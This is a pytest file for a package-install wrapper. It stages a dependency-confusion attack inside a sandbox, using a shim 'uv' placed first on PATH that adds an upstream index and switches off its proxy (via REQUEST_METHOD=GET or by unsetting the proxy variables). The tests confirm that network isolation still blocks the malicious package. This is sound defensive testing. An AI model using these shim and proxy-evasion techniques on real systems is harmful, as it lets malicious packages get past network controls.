"""The shell's wider fast path under network isolation (issue 22, item 4), staged: `wrap uv
pip install foo` starts no guard there, and still cannot get the upstream's evil Foo 9.9.9,
because the command runs in the fence's network namespace.

The attack is a `uv` that is not only uv (a project's shim first on PATH): it adds the
upstream as a second index and switches its own proxy off. The guard reads a program
named uv as uv and would accept the line too; the fence alone does not stop it (the shim
goes around the proxy); the namespace does.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from pipwrap.fence import netns
from tests.support.fenced import EVIL
from tests.support.sandbox import Indexes, Sandbox, installed, write_file
from tests.support.shells import SHELLS

pytestmark = pytest.mark.skipif(not netns.availability().available,
                                reason="no network isolation here")

# Two ways a child switches its proxy off that no file reader sees: uv's own CGI guard
# (it drops every proxy variable when REQUEST_METHOD is set), and unsetting them.
AROUND = {"request-method": "REQUEST_METHOD=GET",
          "unset": "unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy;"}


def _shim(sandbox: Sandbox, indexes: Indexes, around: str) -> str:
    """A `uv` ahead of the real one on PATH; returns the PATH that finds it first."""
    real = shutil.which("uv", path=sandbox.env["PATH"])
    assert real is not None
    write_file(sandbox.home / "bin" / "uv", (
        "#!/bin/sh\n"
        f"{around} exec {real} \"$@\" --index-strategy unsafe-best-match "
        f"--extra-index-url {indexes.upstream.url}\n")).chmod(0o755)
    return f"{sandbox.home / 'bin'}:{sandbox.env['PATH']}"


@pytest.mark.parametrize("around", sorted(AROUND))
@pytest.mark.parametrize("shell", SHELLS)
def test_the_fast_path_uv_still_cannot_reach_the_upstream(
        sandbox: Sandbox, indexes: Indexes, venv: Path, shell: str, around: str) -> None:
    path = _shim(sandbox, indexes, AROUND[around])
    bare, wrapped = sandbox.home / "bare", sandbox.home / "wrapped"
    status = "$status" if shell == "fish" else "$?"
    install = f"uv pip install -q --python {venv}/bin/python --target"
    prefix = "env " if shell == "fish" else ""
    done = sandbox.sh(shell, (
        f"cd ~\n{prefix}UV_INDEX_URL={indexes.local.url} {install} {bare} foo\n"
        "wrap true\n"
        f"__pipwrap_needs_check {install} {wrapped} foo; echo guard={status}\n"
        f"wrap {install} {wrapped} foo; echo status={status}\n"), PATH=path,
        # No retries: the fenced uv would ask the unreachable upstream again with back-off.
        UV_HTTP_RETRIES="0")
    # The staged attack works without pipwrap: the shim took the upstream's 9.9.9.
    assert installed(bare) == EVIL, f"the staged attack did not work:\n{done.stderr}"
    # wrap asked no guard (the fast path), and the namespace left the shim no way out.
    assert "guard=1" in done.stdout, done.stdout + done.stderr
    assert "status=0" not in done.stdout, done.stdout + done.stderr
    assert installed(wrapped) != EVIL, done.stderr


@pytest.mark.parametrize("shell", SHELLS)
def test_the_fast_path_uv_installs_from_the_index(sandbox: Sandbox, venv: Path,
                                                  shell: str) -> None:
    """The plain line, no shim: through the fence, from the profile's index, unguarded."""
    target = sandbox.home / "t"
    status = "$status" if shell == "fish" else "$?"
    install = f"uv pip install -q --python {venv}/bin/python --target {target} 'foo>=1'"
    done = sandbox.sh(shell, f"cd ~\nwrap true\n__pipwrap_needs_check {install}; "
                             f"echo guard={status}\nwrap {install}; echo status={status}\n")
    assert done.stdout.split() == ["guard=1", "status=0"], done.stdout + done.stderr
    assert installed(target) == ("local", "1.0"), done.stderr
